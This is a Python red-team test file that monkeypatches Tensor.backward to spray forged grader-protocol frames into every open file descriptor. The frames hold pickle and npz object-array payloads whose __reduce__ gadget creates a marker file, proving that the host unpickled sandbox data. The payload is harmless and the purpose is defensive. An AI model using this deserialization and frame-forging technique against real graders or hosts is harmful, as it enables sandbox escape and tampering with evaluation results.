def _frame(header, payload=b""):
    """A frame in the grader's wire format (grader/sandbox/protocol.py): AGF1 | header len | payload len."""
    import json, struct
    raw = json.dumps(header).encode()
    return struct.pack(">4sIQ", b"AGF1", len(raw), len(payload)) + raw + payload

def _protocol_fds():
    """Every fd this process holds but stdin: the worker's private protocol channel is among them."""
    import os
    fds = [1]
    for fd in range(3, 21):
        try:
            os.fstat(fd)
            fds.append(fd)
        except OSError:
            pass
    return fds


def _spray(data):
    import os
    for fd in _protocol_fds():
        try:
            os.write(fd, data)
        except OSError:
            pass

RED_TEAM_MARKER = "/tmp/autograd-red-team-unpickled-marker"


class _Evil:
    """Unpickling this creates RED_TEAM_MARKER: proof that the host unpickled sandbox data."""

    def __reduce__(self):
        import builtins
        return (builtins.open, (RED_TEAM_MARKER, "w"))


def _pickle_frames():
    import io, pickle, zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        with archive.open("a0.npy", "w") as member:
            np.lib.format.write_array(member, np.array([_Evil()], dtype=object), allow_pickle=True)
    header = {"type": "result", "stdout": "",
              "result": {"snapshots": {}, "facts": {}, "caught": {}, "error": None, "inputs_unchanged": {}}}
    npz_with_object_array = _frame(header, buf.getvalue())
    raw_pickle = _frame(header, pickle.dumps(_Evil()))
    return npz_with_object_array + raw_pickle

_honest_backward = Tensor.backward


def _attacked_backward(self):
    _spray(_pickle_frames())
    return _honest_backward(self)


Tensor.backward = _attacked_backward
